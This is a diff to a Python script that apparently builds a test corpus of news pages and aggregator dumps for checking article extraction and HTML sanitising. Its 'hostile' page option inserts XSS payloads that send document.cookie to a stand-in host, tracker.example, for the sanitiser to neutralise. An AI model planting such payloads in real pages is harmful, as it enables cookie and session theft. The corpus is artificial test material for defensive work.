@@ -173,9 +173,23 @@ def plain_text(a):
     return out
 
 
+ABBREV = {"jan", "feb", "mar", "apr", "aug", "sept", "sep", "oct", "nov", "dec", "mr", "mrs", "ms", "dr",
+          "gen", "adm", "lt", "col", "sgt", "gov", "rep", "reps", "sen", "st", "no", "co", "inc", "corp", "u.s",
+          "a.m", "p.m", "jr", "sr", "vs", "e.g", "i.e"}
+
+
 def first_sentence(text):
-    m = re.match(r"(.+?[.!?][\"”’']?)(\s|$)", text)
-    return m.group(1) if m else text
+    """The first sentence, not fooled by "Aug. 12", "Adm. Choi", "4:15 p.m. Tuesday" or "3.5%"."""
+    for m in re.finditer(r"[.!?][\"”’']?(?=\s+|$)", text):
+        end = m.end()
+        word = re.search(r"([\w.]+)[.!?][\"”’']?$", text[:end])
+        if word and word.group(1).lower() in ABBREV:
+            continue
+        rest = text[end:].lstrip()
+        if rest and not (rest[0].isupper() or rest[0] in "\"“‘'("):
+            continue
+        return text[:end]
+    return text
 
 
 def local_iso(a):
@@ -520,13 +534,13 @@ def page_pacific(a, rel):
 def page_capital(a, rel, hostile=False):
     pull = None
     for p in plain_text(a):
-        m = re.search(r"[“\"]([^”\"]{40,160})[”\"]", p)
+        m = re.search(r"(?:^|(?<=\s))[“\"](\w[^”\"]{40,160})[”\"]", p)
         if m:
             pull = m.group(1)
             break
     inserts = {}
     if pull:
-        inserts[2] = '<blockquote class="pullquote">“%s”</blockquote>' % esc(pull)
+        inserts[2] = '<blockquote class="pullquote">“%s”</blockquote>' % esc(pull.rstrip(",. "))
     if hostile:
         inserts[1] = ('<script>document.write("<iframe src=\\"https://tracker.example/px\\"></iframe>");fetch("https://tracker.example/c?"+document.cookie)</script>\n'
                       '<figure class="chart"><img src="/charts/missing-chart.png" onerror="alert(\'xss\');this.src=\'https://tracker.example/px.gif?\'+document.cookie" alt="Chart">'
@@ -707,8 +721,10 @@ def dump_body_lines(a, breaks):
     return lines
 
 
-def one_line(a, advert=False):
+def one_line(a, advert=False, with_title=False):
     ps = plain_text(a)
+    if with_title:  # the aggregator glued the headline onto the first sentence
+        ps = [a["title"] + " " + ps[0]] + ps[1:]
     if advert and len(ps) > 1:
         ps = [ps[0], "Advertisement"] + ps[1:]
     s = " ".join(ps)
@@ -739,6 +755,7 @@ def render_dump(d, arts):
             out += ["", "", src, rel_age(as_of, r["published_dt"]), "- " + src, r["title"], one_line(r, advert=True)]
         return "\n".join(out)
     # layout B
+    glued = {k.strip() for k in d.get("title_in_body", "").split(",") if k.strip()}
     out = ["logo", main["title"], "", main["title"], "",
            main["outlet_name"] + rel_age(as_of, main["published_dt"])]
     if main.get("deck"):
@@ -749,7 +766,7 @@ def render_dump(d, arts):
     for r in rel:
         src = r["outlet_name"]
         out += [r["title"], r["title"], "", src, "", "time" + rel_age(as_of, r["published_dt"]), "",
-                "  • " + src, "", r["title"], "", one_line(r), ""]
+                "  • " + src, "", r["title"], "", one_line(r, with_title=r["key"] in glued), ""]
     out += ["DOWNLOAD THE APP", "", "Get Started Now: Download the App", "",
             "Ready to dive into a world of global content with local flavor? Download %s app today from your preferred app store and start exploring." % AGGREGATOR,
             "app-storeplay-store"]
@@ -845,7 +862,7 @@ def pick_related(a, arts, n=4):
     text), then the outlet's other pages; deterministic."""
     def root(x):
         return x.get("copy_of", x["key"])
-    cands = [x for x in arts.values() if x["key"] != a["key"] and root(x) != root(a) and x["where"] == "page"]
+    cands = [x for x in arts.values() if x["key"] != a["key"] and root(x) != root(a) and x["where"] in ("page", "both")]
     earlier = [x for x in cands if x["published_dt"] <= a["published_dt"]]
     if len([x for x in earlier if x["story"] == a["story"]]) >= 2 or a["story"] == "single":
         cands = earlier
@@ -881,7 +898,7 @@ def main():
     where = {k: [] for k in arts}
     pages = []
     for a in sorted(arts.values(), key=lambda x: x["key"]):
-        if a["where"] != "page":
+        if a["where"] not in ("page", "both"):
             continue
         rel = pick_related(a, arts)
         sp = specials.get(a["key"], {})
@@ -918,10 +935,14 @@ def main():
         with open(os.path.join(ROOT, "dumps", fname), "w", encoding="utf-8", newline="\n") as fh:
             fh.write(text)
         rel = [k.strip() for k in d["related"].split(",")]
-        where[d["main"]].append({"file": "dumps/" + fname, "format": "dump", "role": "main",
-                                 "related_keys": rel})
+        as_of = dt.datetime.fromisoformat(d["as_of"].replace("Z", "+00:00"))
+        main_entry = {"file": "dumps/" + fname, "format": "dump", "role": "main", "related_keys": rel}
+        if d["layout"] == "B":
+            main_entry["age"] = rel_age(as_of, arts[d["main"]]["published_dt"])
+        where[d["main"]].append(main_entry)
         for k in rel:
-            where[k].append({"file": "dumps/" + fname, "format": "dump", "role": "related"})
+            where[k].append({"file": "dumps/" + fname, "format": "dump", "role": "related",
+                             "age": rel_age(as_of, arts[k]["published_dt"])})
         dump_info.append({"file": "dumps/" + fname, "layout": d["layout"], "as_of": d["as_of"],
                           "main": d["main"], "related": rel})
 
@@ -929,7 +950,7 @@ def main():
     for outlet, kind, fname in (("harbour", "rss", "harbour-courier.rss.xml"),
                                 ("harbour", "json", "harbour-courier.feed.json"),
                                 ("meridian", "atom", "meridian-wire.atom.xml")):
-        items = sorted([a for a in arts.values() if a["outlet"] == outlet and a["where"] == "page"],
+        items = sorted([a for a in arts.values() if a["outlet"] == outlet and a["where"] in ("page", "both")],
                        key=lambda x: x["published_dt"], reverse=True)
         if not items:
             continue
@@ -1052,7 +1073,7 @@ STORY_DESC = {
 }
 SPECIAL_DESC = {
     "hostile": "inline `<script>`, `onerror=`/`onclick=`/`onload=` attributes, a `javascript:` link and an iframe inside the article body — must be neutralised by the sanitiser",
-    "windows-1252": "encoded in Windows-1252 with `<meta charset=\"windows-1252\">`; curly quotes, dashes, accented letters and the euro sign are single bytes",
+    "windows-1252": "encoded in Windows-1252 with `<meta charset=\"windows-1252\">`; curly quotes, the em dash, ½ and accented letters (é, ñ) are single bytes (0x93, 0x94, 0x92, 0x97, 0xE9, 0xF1)",
     "truncated": "cut off mid-body (no closing tags), as a failed download would leave it",
 }
 
@@ -1137,6 +1158,27 @@ Each row is a republication of a Meridian Wire (or other) original with small ed
 ## Odd pages
 
 {special_rows}
+
+## Gold text and traps for extractors
+
+The gold text of an article is its paragraphs as written in `src/` (sub-headings count as
+paragraphs; wire datelines such as "SEOUL, Aug. 12 (Meridian Wire) —" are part of the first
+paragraph). Everything else on a page is clutter, including some deliberately awkward pieces:
+
+- Capital Observer repeats a quote from the body as a `<blockquote class="pullquote">` and puts a
+  standfirst (`deck`) above the body; neither is body text.
+- Meridian Wire ends with "(Reporting by …; Editing by …)" and "Our Standards: …" lines.
+- Valley Ledger separates paragraphs with `<br><br>` instead of `<p>`, has a classifieds box right
+  after the story, no Open Graph site name and no JSON-LD (its name is only in `<title>`,
+  "… :: Valley Ledger", and the footer).
+- Eastbrook Herald puts the "Published : …" line inside the same container as the body.
+- Harbour Courier and Pacific Dispatch put ads and a newsletter box between paragraphs; Northgate
+  Times has a "READ MORE:" link paragraph in the body.
+- Layout-A dumps give no source line for the main article (as in the seeds); wire copies name the
+  agency in the dateline.
+- `manifest.json` gives, for every place an article appears in a dump, the relative age shown
+  (`age`); resolve it against the dump's `as_of` (ages are floored to the unit shown, so a
+  resolved time can be up to one unit earlier than `published_at`).
 
 ## Things to find (for enrichment tests)
 
